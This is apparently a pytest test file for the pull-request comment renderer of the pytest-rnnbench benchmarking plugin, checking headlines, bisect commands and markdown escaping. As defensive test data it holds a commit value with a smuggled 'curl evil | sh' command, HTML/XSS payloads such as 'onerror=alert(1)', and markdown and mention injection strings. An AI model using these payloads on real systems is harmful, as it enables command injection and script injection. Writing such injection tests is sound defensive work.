"""The pull-request comment, rendered from a results document (golden file)."""

from __future__ import annotations

import argparse
import copy
import json
import re
import shlex
from collections.abc import Callable

import pytest

from helpers import RESULT_FILES, VERDICTS, check_golden
from pytest_rnnbench.cli import bisect as cli_bisect
from pytest_rnnbench.report import comment, markdown_escape

GATE = {
    "base": {
        "side": "base",
        "spec": "origin/master",
        "path": "/path/to/tmp/rnnbench-base-x",
        "commit": "e4e1343054b56ecaf35f639e26494c0812a63faa",
        "dirty": False,
    },
    "head": {
        "side": "head",
        "spec": "/src/keras-apache-mxnet",
        "path": "/src/keras-apache-mxnet",
        "commit": "077a43f2c0e1e7255e6de898bbeae9e10839cdab",
        "dirty": True,
    },
}


def gate_document() -> dict:
    document = json.loads(RESULT_FILES[0].read_text())
    verdicts = copy.deepcopy(VERDICTS)
    for case_id, found in verdicts.items():
        found["baseline_seconds"] = document["results"][case_id]["epoch_seconds"] / (
            1 + found["change"]
        )
    time = verdicts["tensorflow-gpu0-b32-unroll-synthetic"]["metrics"]["step_time"]
    time["confidence"] = 0.99991
    verdicts["jax-gpu0-b32-unroll-synthetic"]["metrics"]["host_peak_rss"] = {
        "outcome": "pass",
        "change": 0.061,
        "tolerance": 0.2,
    }
    document["verdicts"] = verdicts
    document["failures"] = {"mxnet-gpu0-b32-unroll-synthetic": "worker was killed by SIGKILL\n..."}
    document["gate"] = GATE
    return document


def test_the_comment_matches_its_golden_file() -> None:
    check_golden("pr-comment.md", comment.render(gate_document()))


def test_the_marker_comes_first_and_the_headline_counts_outcomes() -> None:
    text = comment.render(gate_document())
    lines = text.splitlines()
    assert lines[0] == comment.MARKER
    assert lines[1] == ("### pytest-rnnbench: 1 failed, 1 regression, 1 inconclusive, 1 pass")
    assert "`077a43f2c0e1` + uncommitted changes" in text and "(origin/master)" in text
    assert "**Inconclusive** means" in text and "--rnnbench-against-workers" in text
    assert "host peak RSS +6.1% (pass, tolerance 20%)" in text
    assert ">99.99%" in text


def test_a_run_stopped_before_its_end_says_how_far_it_got_before_its_table() -> None:
    """A job's time limit or Ctrl-C after 4 of 12 cases: its verdicts are not the whole change's."""
    document = gate_document()
    reported = len(set(document["results"]) | set(document["failures"]))
    assert "stopped before its end" not in comment.render(document)  # a file that does not say
    document.update(finished=True, cases_selected=reported + 8)
    assert "stopped before its end" not in comment.render(document)
    document["finished"] = False
    lines = comment.render(document).splitlines()
    assert lines[3].startswith(
        f"**The run stopped before its end**: {reported} of {reported + 8} case(s) reported;"
    )
    document["cases_selected"] = None  # under pytest-xdist the controller does not collect
    shown = f"**The run stopped before its end**: {reported} case(s) reported;"
    assert shown in comment.render(document)


def test_a_confidence_is_shown_only_beside_the_time_verdict_it_belongs_to() -> None:
    """A case that memory made a regression (by tolerance: no test) shows no time confidence,
    says which metric decided, and is offered no bisect; a time verdict made inconclusive by
    the load shows none either."""
    document = gate_document()
    case = "tensorflow-gpu0-b32-unroll-synthetic"
    found = document["verdicts"][case]
    found["metrics"]["step_time"].update(outcome="improvement", confidence=0.9995)
    found["metrics"]["host_peak_rss"] = {"outcome": "regression", "change": 0.3, "tolerance": 0.2}
    found["verdict"] = "regression"
    document["gate"] = copy.deepcopy(GATE)  # GATE itself is every test's
    document["gate"]["head"]["dirty"] = False
    text = comment.render(document)
    (row,) = [_cells(line) for line in text.splitlines() if line.startswith(f"| `{case}`")]
    assert row[-2:] == [":x: regression (host peak RSS)", ""], row
    assert "rnnbench bisect" not in text
    found["metrics"].pop("host_peak_rss")
    found["metrics"]["step_time"].update(outcome="inconclusive", why="the head's turns were loaded")
    found["verdict"] = "inconclusive"
    text = comment.render(document)
    (row,) = [_cells(line) for line in text.splitlines() if line.startswith(f"| `{case}`")]
    assert row[-2:] == [":warning: inconclusive", ""], row


def _cells(line: str) -> list[str]:
    return [cell.strip() for cell in line.strip().strip("|").split("|")]


def test_a_regression_between_two_commits_comes_with_a_ready_bisect_command() -> None:
    document = gate_document()
    document["gate"] = copy.deepcopy(GATE)
    document["gate"]["head"]["dirty"] = False
    text = comment.render(document)
    (line,) = [line for line in text.splitlines() if line.startswith("rnnbench bisect ")]
    assert line == (
        "rnnbench bisect --good e4e1343054b56ecaf35f639e26494c0812a63faa "
        "--bad 077a43f2c0e1e7255e6de898bbeae9e10839cdab -k tensorflow-gpu0-b32-unroll-synthetic"
    )
    # As pasted, the bisect command's own parser reads it: the ends, and -k for each step's pytest.
    parser = argparse.ArgumentParser(prog="rnnbench")
    cli_bisect.add_parser(parser.add_subparsers(dest="command"))
    args, extra = parser.parse_known_args(shlex.split(line)[1:])
    assert (args.good, args.bad) == (GATE["base"]["commit"], GATE["head"]["commit"])
    assert extra == ["-k", "tensorflow-gpu0-b32-unroll-synthetic"]


def test_no_bisect_command_for_uncommitted_changes_or_text_that_is_not_a_commit() -> None:
    assert "rnnbench bisect" not in comment.render(gate_document())  # the head is dirty
    document = gate_document()
    document["gate"] = copy.deepcopy(GATE)
    document["gate"]["head"].update(dirty=False, commit="077a43f; curl evil | sh")
    assert "rnnbench bisect" not in comment.render(document)


def test_a_run_without_verdicts_says_nothing_was_judged() -> None:
    document = json.loads(RESULT_FILES[0].read_text())
    text = comment.render(document)
    assert "no case was judged" in text.splitlines()[1]
    assert f"{len(document['results'])} case(s) measured, none judged." in text


# -- text the head tree controls -------------------------------------------------------------------
#
# The head tree's `keras.__version__`, its workers' exception text, case ids and reasons read back
# from a results file: each must stay literal text inside its cell or line. The rendered comment
# is parsed with markdown-it (CommonMark with tables, as GitHub reads it) to count what it makes.

HOSTILE_VERSION = (
    "3.15.1\n</details>\n\n### :white_check_mark: pytest-rnnbench: 9 pass\n"
    "<img src=x onerror=alert(1)>\r\n@octocat"
)
HOSTILE_ERROR = (
    "### pytest-rnnbench: 9 pass @maintainers fixes #1\n"
    "</details><img src=x onerror=alert(1)>\n### 9 pass"
)
HOSTILE_CASE = "evil|case</details><img src=x onerror=alert(1)>"


def hostile_document() -> dict:
    document = gate_document()
    for result in document["results"].values():
        result["worker"]["versions"]["keras"] = HOSTILE_VERSION
    document["failures"]["mxnet-gpu0-b32-unroll-synthetic"] = HOSTILE_ERROR
    document["failures"][HOSTILE_CASE] = (
        "- [x](https://example.com) ![i](https://example.com/i.png)"
    )
    document["verdicts"]["jax-gpu0-b32-unroll-synthetic"]["reason"] = (
        "> quoted\n# headline\n\u202eevil"
    )
    document["machine"]["name"] = "runner\n### 10 pass"
    document["gate"]["base"]["spec"] = "origin/master) <!-- --> (`x`"
    return document


def parsed(text: str) -> list:
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark").enable("table").parse(text)


def test_a_hostile_head_renders_as_its_golden_file() -> None:
    check_golden("pr-comment-hostile.md", comment.render(hostile_document()))


def test_a_hostile_head_makes_one_heading_and_only_the_templates_html() -> None:
    text = comment.render(hostile_document())
    tokens = parsed(text)
    headings = [tokens[i + 1].content for i, t in enumerate(tokens) if t.type == "heading_open"]
    assert headings == ["pytest-rnnbench: 2 failed, 1 regression, 1 inconclusive, 1 pass"]
    html = [t.content.strip() for t in tokens if t.type == "html_block"]
    html += [c.content for t in tokens if t.children for c in t.children if "html" in c.type]
    assert html == [comment.MARKER, "<details><summary>Details</summary>", "</details>"]
    assert "<img" not in text and text.count("</details>") == 1
    assert text.count("<") == 5  # the marker, <details>, <summary>, </summary>, </details>
    inlines = [c for t in tokens if t.children for c in t.children]
    links = [c for c in inlines if c.type in ("link_open", "image")]
    assert links == []
    assert "@octocat" not in text and "@maintainers" not in text and "#1" not in text
    assert "@\u200dmaintainers" in text  # still there, to read, but no longer a mention
    assert "9 pas\u2026," in text  # the version, cut at comment.VERSION_CAP


def test_an_unknown_verdict_is_counted_but_its_text_stays_in_its_cell() -> None:
    document = gate_document()
    document["verdicts"]["jax-gpu0-b32-unroll-synthetic"]["verdict"] = "pass, 0 regressions | x"
    lines = comment.render(document).splitlines()
    assert lines[1] == (
        "### pytest-rnnbench: 1 failed, 1 regression, 1 inconclusive, 1 with an unknown verdict"
    )
    assert "| pass, 0 regressions \\| x |" in "\n".join(lines)


def test_a_hostile_case_id_stays_in_its_table_cell() -> None:
    tokens = parsed(comment.render(hostile_document()))
    rows = []
    for i, token in enumerate(tokens):
        if token.type == "tr_open":
            cells = []
            for cell in tokens[i + 1 :]:
                if cell.type == "tr_close":
                    break
                if cell.type == "inline":
                    cells.append(cell.content)
            rows.append(cells)
    assert all(len(cells) == 6 for cells in rows), rows
    evil = [cells for cells in rows if "evil" in cells[0]]
    assert len(evil) == 1 and evil[0][4] == ":boom: failed"


def test_each_line_of_the_hostile_comment_is_one_of_the_templates_lines() -> None:
    lines = comment.render(hostile_document()).splitlines()
    # The version text has six lines of its own: all of them stay on the one Versions line.
    assert sum(line.startswith("Versions: ") for line in lines) == 1
    assert [line for line in lines if line.startswith("#")] == [lines[1]]
    assert len(lines) == len(comment.render(gate_document()).splitlines()) + 2  # 2 more rows


# -- the escaping function on its own --------------------------------------------------------------

HOSTILE = [
    "### 9 pass",
    "# x",
    "> quote",
    "- item",
    "+ item",
    "---",
    "12. item",
    "3) item",
    "a\nb\r\nc\u2028d\u2029e\x85f\x0bg",
    "</details><img src=x onerror=alert(1)>",
    "&lt;img src=x&gt;",
    "<!-- pytest-rnnbench:pr-comment -->",
    "`code` *em* _em_ ~~del~~ [a](b) ![i](u) \\",
    "a | b",
    "@octocat @org/team #12",
    "\u202eevil\u200b\u2066",
    "x" * 1000,
]


@pytest.mark.parametrize("value", HOSTILE)
@pytest.mark.parametrize("escape", [markdown_escape.inline, markdown_escape.code])
def test_a_hostile_string_is_one_literal_paragraph_in_a_table_cell(
    value: str, escape: Callable[..., str]
) -> None:
    text = escape(value, table=True)
    assert "\n" not in text and "\r" not in text and "<" not in text
    assert len(text) <= 3 * markdown_escape.CAP  # the cap holds: each character escapes to <= 3
    assert not re.search(r"@(?!\u200d)|#(?!\u200d)\d", text)
    for line in (f"- {text}", text, f"Versions: {text}."):
        tokens = parsed(line)
        blocks = [t.type for t in tokens if t.type.endswith("_open")]
        assert blocks in (
            ["paragraph_open"],
            ["bullet_list_open", "list_item_open", "paragraph_open"],
        )
        kinds = {c.type for t in tokens if t.children for c in t.children}
        assert kinds <= {"text", "code_inline"}, (line, kinds)  # no break, html, link, emphasis
    row = parsed(f"| a | b |\n| - | - |\n| {text} | c |\n")
    cells = [t.content for t in row if t.type == "inline"]
    assert len(cells) == 4 and cells[3] == "c"


def test_escaped_text_reads_as_the_original_once_rendered() -> None:
    from markdown_it import MarkdownIt

    value = "a`b *c* _d_ [e](f) <g> & h | #3 @i"
    html = MarkdownIt("commonmark").enable("table").render(markdown_escape.inline(value))
    assert html == ("<p>a`b *c* _d_ [e](f) &lt;g&gt; &amp; h | #\u200d3 @\u200di</p>\n")


def test_plain_values_are_unchanged_and_long_ones_are_cut_at_the_cap() -> None:
    assert markdown_escape.inline("2.21.0") == "2.21.0"
    assert markdown_escape.inline("baseline 20.1 ms -> now 22.6 ms, -1.0%") == (
        "baseline 20.1 ms -> now 22.6 ms, -1.0%"
    )
    assert (
        markdown_escape.code("jax-gpu0-b32-unroll-synthetic") == "`jax-gpu0-b32-unroll-synthetic`"
    )
    assert markdown_escape.code("a`b") == "a\\`b"  # not plain: no code span
    assert markdown_escape.code("test_lstm[b32-unroll]") == "`test_lstm[b32-unroll]`"
    cut = markdown_escape.inline("y" * 500)
    assert cut == "y" * (markdown_escape.CAP - 1) + "\u2026"
    assert markdown_escape.inline("z" * 50, 10) == "z" * 9 + "\u2026"


def test_the_comment_says_which_level_the_run_holds_and_its_unit():
    document = json.loads(RESULT_FILES[0].read_text())
    document["verdicts"] = copy.deepcopy(VERDICTS)
    first = next(iter(document["verdicts"]))
    document["verdicts"][first]["family"] = {"false_alarm_rate": 0.01, "cases": 12}
    text = comment.render(document)
    assert (
        "False-alarm level 1% for the whole run: each of its 12 case(s) is judged at 0.00083; "
        "the unit of each test is the worker process (live) or the session (stored baselines)"
    ) in text


def test_a_changed_lstm_path_is_said_in_the_comment_whatever_the_timing():
    document = json.loads(RESULT_FILES[0].read_text())
    document["verdicts"] = copy.deepcopy(VERDICTS)
    first = sorted(document["verdicts"])[0]
    document["verdicts"][first]["notes"] = ["LSTM path changed: fused -> generic (declined)"]
    text = comment.render(document)
    assert "**The LSTM path changed**, whatever the timing says:" in text
    assert f"- `{first}`: LSTM path changed: fused -> generic (declined)" in text


def test_a_confidence_is_never_rounded_up_to_a_certainty():
    assert comment._confidence({"confidence": 0.99985}) == "99.985%"
    # One that reached a 12-case level (99.9167%) does not read as short of it (99.91%).
    assert comment._confidence({"confidence": 0.99917}) == "99.917%"
    assert comment._confidence({"confidence": 0.99995}) == ">99.99%"
    assert comment._confidence({"confidence": 0.5}) == "50.00%"
    assert comment._confidence(None) == ""


def test_small_levels_tolerances_and_confidences_are_printed_as_they_are() -> None:
    document = gate_document()
    tf, jax = "tensorflow-gpu0-b32-unroll-synthetic", "jax-gpu0-b32-unroll-synthetic"
    document["verdicts"][tf]["family"] = {"false_alarm_rate": 0.001, "cases": 4}
    document["verdicts"][tf]["metrics"]["step_time"]["confidence"] = 0.57
    document["verdicts"][jax]["metrics"]["host_peak_rss"]["tolerance"] = 0.025
    document["verdicts"][jax]["metrics"]["host_peak_rss"]["change"] = 0.024
    text = comment.render(document)
    assert "False-alarm level 0.1% for the whole run" in text  # was "0%"
    assert re.search(r"\| 57\.00% +\|", text)  # was 56.99%: 0.57 * 10000 is 5699.999...
    assert "(pass, tolerance 2.5%)" in text  # was "2%", beside a change of +2.4%


def test_a_0_1_verdict_shows_its_step_times_which_it_named_epoch_time() -> None:
    document = gate_document()
    found = document["verdicts"]["tensorflow-gpu0-b32-unroll-synthetic"]
    found["metrics"] = {"epoch_time": found["metrics"].pop("step_time")}
    assert re.search(r"\| 20\.\d\d +\| 22\.\d\d +\|", comment.render(document))


def test_cases_not_judged_beside_judged_ones_are_counted_in_the_headline() -> None:
    """ "2 pass" read as if the whole pull request passed, with 10 cases skipped further down."""
    document = gate_document()
    document["not_judged"] = {"torch-gpu0-b64-unroll-synthetic": "skipped: no torch here"}
    headline = comment.render(document).splitlines()[1]
    assert headline.endswith(", 1 not judged"), headline


def test_a_diverged_loss_is_among_what_moved() -> None:
    """Its change is not a number: it was left out of "Memory and loss that moved"."""
    document = gate_document()
    found = document["verdicts"]["jax-gpu0-b32-unroll-synthetic"]
    found["metrics"]["final_loss"] = {
        "outcome": "regression",
        "change": None,
        "why": "the loss is not finite: training diverged",
    }
    assert (
        "- `jax-gpu0-b32-unroll-synthetic`: final loss regression: the loss is not finite: "
        "training diverged"
    ) in comment.render(document)


def test_a_change_that_rounds_to_nothing_has_no_sign() -> None:
    """ "-0.0%" read as a (tiny) speed-up in a table of real gates."""
    from pytest_rnnbench.report.formatting import format_change

    assert [format_change(c) for c in (-0.0004, 0.0004, 0.124, -0.03, None)] == [
        "0.0%",
        "0.0%",
        "+12.4%",
        "-3.0%",
        "",
    ]


def test_the_comment_says_whether_the_run_passed_as_its_exit_status_does() -> None:
    """An all-inconclusive gate exits 0 and pytest says "12 passed": the comment said neither."""
    document = gate_document()
    assert "**The run fails** (exit status 1)." in comment.render(document)  # a regression
    for found in document["verdicts"].values():
        found["verdict"] = "inconclusive"
    document["failures"] = {}
    assert (
        "**The run passes** (exit status 0); its inconclusive cases pass undecided."
        in comment.render(document)
    )
    nothing = dict(document, verdicts={}, failures={})
    assert "**The gate fails**: it judged no case (exit status 10)." in comment.render(nothing)
